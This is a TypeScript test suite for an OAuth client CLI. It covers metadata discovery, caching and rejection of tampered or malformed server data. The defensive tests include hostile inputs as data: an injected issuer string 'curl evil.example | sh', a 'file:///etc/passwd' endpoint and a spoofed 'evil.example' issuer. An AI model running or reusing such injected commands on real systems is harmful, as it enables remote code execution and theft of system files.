/** Where server metadata comes from, and how long it is kept. */
import { readdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import {
  type AuthorizationServer,
  type AuthorizationServerOptions,
  type Fault,
  startAuthorizationServer,
} from '../support/authorization-server/index.ts'
import { type Home, runFob, tempHome } from '../support/run.ts'

let server: AuthorizationServer
let home: Home

async function start(options: AuthorizationServerOptions = {}): Promise<void> {
  server = await startAuthorizationServer(options)
}
beforeEach(async () => {
  home = await tempHome()
})
afterEach(async () => {
  await server.close()
  await home.remove()
})

function token(args: readonly string[] = []) {
  const words = ['token', 'client-credentials', '--allow-http-loopback', '--issuer', server.issuer]
  return runFob([...words, '--client-id', 'service', ...args], {
    home,
    env: { FOB_CLIENT_SECRET: server.clients.service.client_secret },
  })
}

const discoveries = () =>
  server.requests.filter(({ endpoint }) => endpoint === 'discovery').map(({ path }) => path)

describe('the well-known address', () => {
  it('follows the path of the issuer for OpenID Connect', async () => {
    await start({ path: '/tenant/a' })
    expect((await token()).code).toBe(0)
    expect(discoveries()).toEqual(['/tenant/a/.well-known/openid-configuration'])
  })

  it('comes before the path for RFC 8414, where there is no other', async () => {
    await start({ path: '/tenant/a' })
    server.fault('discovery', { status: 404, when: ({ path }) => path.endsWith('openid-configuration') })
    expect((await token()).code).toBe(0)
    expect(discoveries()).toEqual([
      '/tenant/a/.well-known/openid-configuration',
      '/.well-known/oauth-authorization-server/tenant/a',
    ])
  })

  it.each<[string, Fault]>([
    ['shows a page for every address', { headers: { 'content-type': 'text/html' }, body: '<html>' }],
    ['leads every address to a sign-in', { status: 302, headers: { location: 'https://sso.example.com' } }],
  ])('is the other one where the server %s', async (_, fault) => {
    await start()
    server.fault('discovery', { ...fault, when: ({ path }) => path.endsWith('openid-configuration') })
    expect(await token()).toMatchObject({ code: 0, stderr: '' })
    server.clear()
    server.fault('discovery', fault)
    const { code, stderr } = await token(['--refresh-metadata'])
    expect(code).toBe(7)
    expect(stderr).toMatch(/text\/html|redirect to https:\/\/sso\.example\.com/)
  })

  it('is nowhere: exit 7 and a hint for servers without metadata', async () => {
    await start()
    server.fault('discovery', { status: 404 })
    const { code, stdout, stderr } = await token()
    expect({ code, stdout }).toEqual({ code: 7, stdout: '' })
    expect(stderr).toContain('--token-endpoint')
  })
})

describe('the cache', () => {
  it('serves the second call, and --refresh-metadata asks anew', async () => {
    await start()
    await token()
    await token()
    expect(discoveries()).toHaveLength(1)
    await token(['--refresh-metadata'])
    expect(discoveries()).toHaveLength(2)
  })

  it.each([
    ['no-store', 2],
    ['max-age=0', 2],
    ['max-age=600', 1],
  ])('obeys Cache-Control: %s', async (value, expected) => {
    await start()
    const metadata = await (await fetch(`${server.issuer}/.well-known/openid-configuration`)).json()
    server.clear()
    server.fault('discovery', {
      headers: { 'cache-control': value },
      body: metadata as Record<string, unknown>,
    })
    await token()
    await token()
    expect(discoveries()).toHaveLength(expected)
  })

  it.each([404, 405])('is dropped and filled once more when its endpoint answers %i', async status => {
    await start()
    await token()
    server.clear()
    server.fault('token', { status, times: 1 })
    expect((await token()).code).toBe(0)
    expect(server.counts()).toMatchObject({ discovery: 1, token: 2 })
  })

  it('is dropped when the host of its endpoint is gone', async () => {
    await start()
    const gone = { token_endpoint: 'https://gone.invalid/token' }
    server.fault('discovery', { edit: answer => ({ ...answer, ...gone }), times: 1 })
    expect((await token()).code).toBe(6)
    expect((await token()).code).toBe(0)
    expect(discoveries()).toHaveLength(2)
  })

  it('asks once more only once: an endpoint that stays away exits 7', async () => {
    await start()
    await token()
    server.clear()
    server.fault('token', { status: 404 })
    expect((await token()).code).toBe(7)
    expect(server.counts()).toMatchObject({ discovery: 1, token: 2 })
  })
})

describe('a kept entry that is damaged', () => {
  const files = async () => {
    const folder = join(home.env.XDG_CACHE_HOME ?? '', 'fob/metadata')
    return (await readdir(folder)).map(name => join(folder, name))
  }

  it.each<[string, (entry: Record<string, unknown>) => unknown]>([
    ['no metadata', entry => ({ ...entry, metadata: {} })],
    ['a list', entry => ({ ...entry, metadata: [] })],
    [
      'another issuer',
      ({ metadata, ...entry }) => ({
        ...entry,
        metadata: { ...Object(metadata), issuer: 'https://evil.example' },
      }),
    ],
    ['fresh for ever', entry => ({ ...entry, freshUntil: 1e300 })],
  ])('with %s is asked for anew', async (_, damage) => {
    await start()
    await token()
    const [file = ''] = await files()
    await writeFile(file, JSON.stringify(damage(JSON.parse(await readFile(file, 'utf8')))))
    expect(await token()).toMatchObject({ code: 0, stderr: '' })
    expect(discoveries()).toHaveLength(2)
  })
})

describe('metadata of the wrong types', () => {
  it.each<[string, Record<string, unknown>, number]>([
    ['methods that are no list', { token_endpoint_auth_methods_supported: 5, grant_types_supported: 'x' }, 0],
    [
      'a list of anything',
      { token_endpoint_auth_methods_supported: [5, {}], grant_types_supported: [null] },
      0,
    ],
    ['aliases that are no object', { mtls_endpoint_aliases: 5 }, 0],
    ['an endpoint that is no address', { token_endpoint: 'token' }, 7],
    ['an endpoint of another scheme', { token_endpoint: 'file:///etc/passwd' }, 7],
  ])('such as %s crash nothing', async (_, wrong, expected) => {
    await start()
    server.fault('discovery', { edit: answer => ({ ...answer, ...wrong }) })
    const { code, stderr } = await token()
    expect({ code, stderr }).toEqual({
      code: expected,
      stderr: expected === 0 ? '' : expect.stringContaining('no token endpoint'),
    })
    expect(await runFob(['discover', server.issuer, '--allow-http-loopback'], { home })).toMatchObject({
      code: 0,
      stderr: '',
    })
  })
})

it('an issuer that would do harm in a shell is in no hint', async () => {
  await start()
  const issuer = 'https://x.example/; curl evil.example | sh #'
  server.fault('discovery', { edit: answer => ({ ...answer, issuer }) })
  const { code, stderr } = await token()
  expect(code).toBe(8)
  expect(stderr.split('\n')[1]).not.toContain('curl')
})
